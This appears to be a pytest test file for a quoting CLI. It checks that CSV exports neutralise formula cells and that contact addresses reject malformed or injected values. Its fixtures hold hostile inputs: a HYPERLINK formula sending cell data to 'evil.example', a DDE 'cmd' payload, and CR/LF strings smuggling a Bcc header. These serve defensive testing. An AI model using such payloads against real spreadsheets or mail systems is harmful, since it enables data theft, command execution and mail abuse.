"""Issue 13: expected conditions have a code and a hint; contact addresses; CSV formulas.

- Every expected condition (a held lock, a broken template, a huge number, a
  far date, a CR/LF in an address) is a refusal with a stable ``E-…`` code and
  a hint, never "internal error … this is a bug" (the CLI's bug boundary).
- Contact addresses are RFC 5322 addr-specs: validated in account files, in
  ``invoice send --to`` and in cpq.toml ``[smtp] from``.
- CSV (``export`` and ``--format csv``) neutralises cells a spreadsheet would
  run as formulas (OWASP's CSV injection), never plain numbers.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

TOML = '[company]\nname = "Test Co"\ncurrency = "USD"\n'
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"ACME")'
CATALOG = """\
    products:
      - {code: PLAN, name: Plan, type: subscription, per: month, price: {USD: 50.00}}
      - {code: EVIL, name: "@SUM(1+1)*cmd|' /C calc'!A0", type: subscription, per: month, price: {USD: 5.00}}
    """
ACCOUNT = f"""\
    account: acme
    name: '{HYPERLINK}'
    currency: USD
    address: "-2+3"
    contacts:
      - {{name: Ann, email: ann@acme.example, role: billing}}
    """
CONTRACT = """\
    contract: C-2026-0001
    account: acme
    currency: USD
    start: 2026-01-01
    end: 2026-12-31
    lines:
      - {product: PLAN, quantity: 2, list_price: 50.00, unit_price: 50.00, per: month, start: 2026-01-01, end: 2026-12-31}
    amendments:
      - amendment: A-1
        effective: 2026-04-01
        lines:
          - {product: PLAN, quantity: -1, list_price: 50.00, unit_price: 50.00, per: month, start: 2026-04-01, end: 2026-12-31}
    """
FILES = {
    "catalog/p.yaml": CATALOG,
    "contracts/acme/account.yaml": ACCOUNT,
    "contracts/acme/C-2026-0001.yaml": CONTRACT,
}


def rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


# ------------------------------------------------------------------ CSV formulas


def test_csv_export_neutralises_formulas_but_not_negative_numbers(repo, cli, tmp_path) -> None:
    root = repo(FILES, toml=TOML)
    out = tmp_path / "export"
    run = cli("export", "-o", out, "--as-of", "2026-06-30", "--repo", root)
    assert run.code == 0, run.stderr
    account = rows(out / "accounts.csv")[0]
    assert account["name"] == "'" + HYPERLINK  # shown as text by a spreadsheet, never run
    assert account["address"] == "'-2+3"  # starts with -, but not a number: a formula
    seg = next(r for r in rows(out / "segments.csv") if r["source"] == "A-1")
    assert (seg["quantity"], seg["mrr"]) == ("-1", "-50.00")  # numbers stay numbers


def test_csv_export_raw_keeps_cells_and_sqlite_is_unchanged(repo, cli, tmp_path) -> None:
    root = repo(FILES, toml=TOML)
    run = cli("export", "--raw-csv", "-o", tmp_path / "raw", "--as-of", "2026-06-30", "--repo", root)
    assert run.code == 0, run.stderr
    assert rows(tmp_path / "raw" / "accounts.csv")[0]["name"] == HYPERLINK
    db = tmp_path / "x.sqlite"
    run = cli("export", "--format", "sqlite", "-o", db, "--as-of", "2026-06-30", "--repo", root)
    assert run.code == 0, run.stderr
    with sqlite3.connect(db) as con:
        assert con.execute("select name, address from accounts").fetchone() == (HYPERLINK, "-2+3")


def test_format_csv_of_tables_neutralises_formulas(repo, cli) -> None:
    root = repo(FILES, toml=TOML)
    run = cli("catalog", "list", "--format", "csv", "--repo", root)
    assert run.code == 0, run.stderr
    names = {r["code"]: r["name"] for r in csv.DictReader(io.StringIO(run.stdout))}
    assert names == {"EVIL": "'@SUM(1+1)*cmd|' /C calc'!A0", "PLAN": "Plan"}
    run = cli(
        "report",
        "movements",
        "--from",
        "2026-03-01",
        "--to",
        "2026-06-30",
        "--detail",
        "--format",
        "csv",
        "--repo",
        root,
    )
    assert run.code == 0, run.stderr
    assert "acme,contraction,100.00,50.00,-50.00" in run.stdout.splitlines()  # a negative delta: a number


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-5%", "-5%"),
        ("-.5", "-.5"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (7, 7),
    ],
)
def test_csv_cell_rule(cell, out) -> None:
    from cpqctl.formats.export import csv_cell

    assert csv_cell(cell) == out
    assert csv_cell(cell, raw=True) == ("" if cell is None else cell)


# ------------------------------------------------------------------ contact addresses


@pytest.mark.parametrize(
    ("email", "why"),
    [
        ("not an address", "not of the form local@domain"),
        ("Anna <anna@acme.example>", "not of the form local@domain"),
        ("anna@acme.example, bob@acme.example", "not of the form local@domain"),
        ("anna@acme.example\\r\\nBcc: x@evil.example", "control character"),
        ("łukasz@łódź.example", "not of the form local@domain"),  # a non-ASCII local part needs SMTPUTF8
        ("anna@-acme.example", "not a valid domain name"),
        ("anna@[192.0.2.1]", "address literal"),
    ],
)
def test_a_contact_email_that_is_not_an_address_is_a_positioned_error(repo, cli, email, why) -> None:
    account = ACCOUNT.replace("ann@acme.example", f'"{email}"')
    root = repo({**FILES, "contracts/acme/account.yaml": account}, toml=TOML)
    run = cli("check", "--repo", root)
    assert run.code == 1
    assert "contracts/acme/account.yaml:6:" in run.stdout and "error[E-EMAIL]" in run.stdout and why in run.stdout


def test_idna_domains_and_quoted_local_parts_are_addresses(repo, cli) -> None:
    account = ACCOUNT.replace("ann@acme.example", "ann@bücher.example")
    account = account.rstrip(" ") + "      - {name: Bob, email: '\"bob smith\"@acme.example'}\n"
    root = repo({**FILES, "contracts/acme/account.yaml": account}, toml=TOML)
    run = cli("check", "--repo", root)
    assert run.code == 0, run.stdout


def test_smtp_from_is_checked(repo, cli) -> None:
    root = repo(FILES, toml=TOML + '[smtp]\nfrom = "Billing <billing@example.com>\\nBcc: x@evil.example"\n')
    run = cli("check", "--repo", root)
    assert run.code == 1 and "cpq.toml:" in run.stdout and "error[E-EMAIL]" in run.stdout
    assert "\\nBcc" in run.stdout  # shown escaped: the message stays on its line
    ok = repo(FILES, toml=TOML + "[smtp]\nfrom = '\"Billing, Inc.\" <billing@example.com>'\n")
    assert cli("check", "--repo", ok).code == 0
    unquoted = repo(FILES, toml=TOML + '[smtp]\nfrom = "Billing, Inc. <billing@example.com>"\n')
    run = cli("check", "--repo", unquoted)  # RFC 5322: a display name with a comma is quoted
    assert run.code == 1 and "not one address" in run.stdout


@pytest.fixture
def invoiced(repo, cli) -> Path:
    root = repo(FILES, toml=TOML)
    run = cli("invoice", "run", "--as-of", "2026-01-01", "--repo", root)
    assert run.code == 0, run.stderr
    return root


@pytest.mark.parametrize(
    "to", ["a@b.example\r\nBcc: x@evil.example", "not an address", "a@b.example (x)", "a@b_c.example"]
)
def test_invoice_send_to_a_bad_address_is_a_usage_error(invoiced, cli, tmp_path, to) -> None:
    inv = (invoiced / "invoices").iterdir().__next__().stem
    before = (invoiced / "invoices" / f"{inv}.yaml").read_bytes()
    run = cli(
        "invoice", "send", inv, "--to", to, "--eml", tmp_path / "m.eml", "--as-of", "2026-01-02", "--repo", invoiced
    )
    assert run.code == 2 and "error[E-EMAIL]" in run.stderr and "internal error" not in run.stderr
    assert not (tmp_path / "m.eml").exists()
    assert (invoiced / "invoices" / f"{inv}.yaml").read_bytes() == before
